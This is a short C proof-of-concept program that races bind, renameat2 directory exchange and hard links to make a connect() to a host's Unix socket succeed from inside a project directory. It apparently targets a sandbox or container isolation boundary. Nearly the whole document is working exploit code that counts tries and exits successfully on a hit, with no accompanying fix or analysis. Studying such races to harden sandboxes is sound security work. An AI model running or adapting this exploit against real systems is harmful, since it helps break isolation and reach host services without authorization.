// A socket of the host lies in the project (host.sock). Threads bind a/x.sock, exchange a and b, and link the
// host's socket into place; if the host's socket is then recorded as bound inside, connect succeeds.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>
static volatile int stop;
static int at(int s, const char *path, int (*call)(int, const struct sockaddr *, socklen_t)) {
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strcpy(a.sun_path, path);
    return call(s, (void *)&a, sizeof a);
}
static void *binder(void *x) {
    while (!stop) {
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        at(s, "a/x.sock", bind);
        close(s);
        unlink("a/x.sock"); unlink("b/x.sock");
    }
    return 0;
}
static void *exchange(void *x) {
    while (!stop) syscall(SYS_renameat2, AT_FDCWD, "a", AT_FDCWD, "b", 2);
    return 0;
}
static void *linker(void *x) {
    while (!stop) { link("host.sock", "b/x.sock"); link("host.sock", "a/x.sock"); }
    return 0;
}
int main(int argc, char **argv) {
    mkdir("a", 0755); mkdir("b", 0755);
    pthread_t t[8]; int n = 0;
    pthread_create(&t[n++], 0, binder, 0);
    pthread_create(&t[n++], 0, binder, 0);
    pthread_create(&t[n++], 0, exchange, 0);
    pthread_create(&t[n++], 0, linker, 0);
    time_t end = time(0) + atoi(argv[1]);
    int hit = 0; long tries = 0;
    while (!hit && time(0) < end) {
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        if (at(s, "host.sock", connect) == 0) hit = 1;
        close(s); tries++;
    }
    stop = 1;
    for (int i = 0; i < n; i++) pthread_join(t[i], 0);
    printf("tries %ld hit %d\n", tries, hit);
    return !hit;
}
